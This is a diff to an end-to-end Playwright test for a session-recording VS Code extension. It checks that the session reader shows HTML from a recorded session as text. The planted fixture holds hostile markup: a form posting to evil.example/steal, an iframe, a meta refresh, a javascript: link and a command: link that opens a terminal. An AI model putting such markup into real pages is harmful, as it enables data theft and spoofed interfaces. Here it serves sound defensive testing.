@@ -11,7 +11,31 @@ import * as path from 'node:path';
 import type { Page } from 'playwright-core';
 import { INPUT_SCHEMAS, LM_TOOL_PREFIX, type ToolName } from '../../src/core/recall/types';
 import { REPO as REPO_ROOT, sandbox, type Sandbox } from '../helpers/env';
-import { ARTIFACTS, bulk, openWindow, openWorkbench, packageOnce, runCommand, screenshot, startCodeServer, STATUS_ITEM, until, type CodeServer, type Workbench } from './harness';
+import { ARTIFACTS, bulk, openWindow, openWorkbench, packageOnce, runCommand, screenshot, startCodeServer, STATUS_ITEM, until, webviewText, type CodeServer, type Workbench } from './harness';
+
+// A Claude Code session whose text carries markup a page would act on (the reader must show it).
+const HOSTILE_PHRASE = 'quokka hostile markup phrase';
+function plantHostileSession(home: string): void {
+  const dir = path.join(home, '.claude', 'projects', '-work-hostile-reader');
+  fs.mkdirSync(dir, { recursive: true });
+  const sid = '0f0e0d0c-0b0a-4909-8807-060504030201';
+  const text = [
+    `${HOSTILE_PHRASE}: **bold** stays.`,
+    '',
+    '<form action="https://evil.example/steal" method="post"><input name="q"><button type="submit">Send</button></form>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<button class="cite" data-turn="1" data-i="0">Copy citation</button>',
+    '',
+    '[open a terminal](command:workbench.action.terminal.new) and <a href="javascript:alert(1)">this</a> <div id="turn-1" style="position:fixed">over</div>',
+  ].join('\n');
+  const base = { parentUuid: null, isSidechain: false, userType: 'external', cwd: '/work/hostile-reader', sessionId: sid, version: '1.0.51' };
+  const lines = [
+    { ...base, type: 'user', message: { role: 'user', content: text }, uuid: '11111111-1111-4111-8111-111111111111', timestamp: '2025-07-14T10:00:00.000Z' },
+    { ...base, parentUuid: '11111111-1111-4111-8111-111111111111', type: 'assistant', message: { id: 'msg_hostile', type: 'message', role: 'assistant', model: 'claude-sonnet-4-20250514', content: [{ type: 'text', text: 'Noted.' }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 1 } }, uuid: '22222222-2222-4222-8222-222222222222', timestamp: '2025-07-14T10:00:01.000Z' },
+  ];
+  fs.writeFileSync(path.join(dir, `${sid}.jsonl`), lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
+}
 
 const PI_SESSION = '.pi/agent/sessions/--fixtures-synthetic--/agentsview-session.jsonl';
 
@@ -45,6 +69,7 @@ describe('extension in code-server', { timeout: 900_000 }, () => {
     // Months of history: the first catch-up is large, and the editor's main thread is measured
     // through it (the extension's own event-loop-delay monitor).
     timings.bulkBytes = bulk(sb, 150);
+    plantHostileSession(sb.home);
     fs.writeFileSync(path.join(sb.brain, 'config.toml'), `machine = "testbox"\n\n[store]\npath = ${JSON.stringify(store)}\n`, { mode: 0o600 });
     t = Date.now();
     // The quiet period is short so a line appended without a newline is captured during the test.
@@ -194,6 +219,32 @@ describe('extension in code-server', { timeout: 900_000 }, () => {
     assert.equal(sh.stdout.split(' ')[0], cit.sha256);
   });
 
+  it('the reader shows HTML written in a session as text: no form, frame, meta refresh, command: link or fake button', async () => {
+    await runCommand(page, 'Agent Brain: Search Sessions');
+    const input = page.locator('.quick-input-widget input[placeholder^="Search recorded sessions"]');
+    await input.waitFor({ state: 'visible', timeout: 20_000 });
+    await input.fill(HOSTILE_PHRASE);
+    const hit = page.locator('.quick-input-list .monaco-list-row', { hasText: HOSTILE_PHRASE }).first();
+    await hit.waitFor({ timeout: 15_000 });
+    await input.press('Enter');
+    const frame = page.frameLocator('iframe.webview.ready').last().frameLocator('#active-frame');
+    const turn = frame.locator('section.turn.hit');
+    await turn.waitFor({ timeout: 20_000 });
+    assert.match(await turn.innerText(), new RegExp(HOSTILE_PHRASE));
+    for (const sel of ['form', 'iframe', 'meta[http-equiv="refresh"]', 'input', 'object', 'embed', 'a[href^="command:"]', 'a[href^="javascript:"]', '.md button', '.md [id]', '.md [style]']) {
+      assert.equal(await frame.locator(sel).count(), 0, `${sel} reached the page`);
+    }
+    // Exactly the reader's own Copy citation buttons, one per turn.
+    assert.equal(await frame.locator('button').count(), await frame.locator('section.turn').count());
+    // What the session said is there to read, as text.
+    const text = await turn.innerText();
+    assert.match(text, /<form action="https:\/\/evil\.example\/steal"/);
+    assert.match(text, /<button class="cite"/);
+    assert.match(text, /<meta http-equiv="refresh"/);
+    assert.equal(await turn.locator('.md strong').count(), 1, "Markdown's own emphasis still renders");
+    await screenshot(page, 'reader-hostile');
+  });
+
   it('reads ok in the status bar after a sync, and failing once the store is gone', async () => {
     const item = page.locator(STATUS_ITEM);
     await runCommand(page, 'Agent Brain: Sync Now');
@@ -213,11 +264,11 @@ describe('extension in code-server', { timeout: 900_000 }, () => {
     }, 60_000);
     console.log(`failing label: ${text}`);
     await page.locator('.part.statusbar').screenshot({ path: path.join(ARTIFACTS, 'statusbar-failing.png') });
-    // Clicking it shows `brain status` (this machine's last sync and every machine in the store).
+    // Clicking it shows the status as a page: this machine, the failing backup, every machine in the store.
     await item.click();
-    const output = page.locator('.part.panel .monaco-editor .view-lines');
-    // The panel renders the lines in view, scrolled to the end: the store's machine list closes the report.
-    await until('brain status in the output panel', async () => /This\s+machine:\s+testbox|otherbox\s+\S/.test(await output.innerText()), 30_000);
+    const status = await webviewText(page, /Agent Brain: Status[\s\S]*otherbox/, 'the Status page with the store\'s machines');
+    assert.match(status, /testbox/);
+    assert.match(status, /warning/);
     await screenshot(page, 'status');
     lockStore(false);
   });
@@ -283,7 +334,6 @@ describe('extension in code-server', { timeout: 900_000 }, () => {
       await until('the toasts to go', async () => (await page.locator('.notifications-toasts .notification-toast').count()) === 0, 10_000);
     };
     const input = page.locator('.quick-input-widget input');
-    const output = page.locator('.part.panel .monaco-editor .view-lines');
     // A citation of the fixture session, as Copy Citation leaves it on the clipboard.
     const found = JSON.parse(spawnSync(process.execPath, [path.join(REPO_ROOT, 'dist', 'cli.js'), 'search', 'does it only run on main', '--json', '--limit', '1'], { env: sb.env, encoding: 'utf8' }).stdout);
     const cit = found.hits[0].snippets[0].citation;
@@ -314,10 +364,11 @@ describe('extension in code-server', { timeout: 900_000 }, () => {
     const editorText = page.locator('.editor-instance .monaco-editor .view-lines').first();
     await until('the config text in the editor', async () => /machine\s*=\s*"testbox"/.test(await editorText.innerText()), 10_000);
 
-    // Run Doctor: its checks in the output panel, the store among them.
+    // Run Doctor: its checks as a page, problems first, each with its fix, the store among them.
     await runCommand(page, 'Agent Brain: Run Doctor');
-    // The panel shows the end of the report: the skill checks and the verdict.
-    await until('brain doctor in the output panel', async () => /skill\spi:[\s\S]*(\d+\sproblem\(s\)|no\sproblems)/.test(await output.innerText()), 60_000);
+    const doctor = await webviewText(page, /Agent Brain: Doctor[\s\S]*(problems? found|No problems found)/, 'the Doctor page', 60_000);
+    assert.match(doctor, /\bstore\b/);
+    assert.match(doctor, /skill pi/);
     await screenshot(page, 'doctor');
 
     // Rebuild Caches: both caches made again from the floor (new files), the tree still whole.
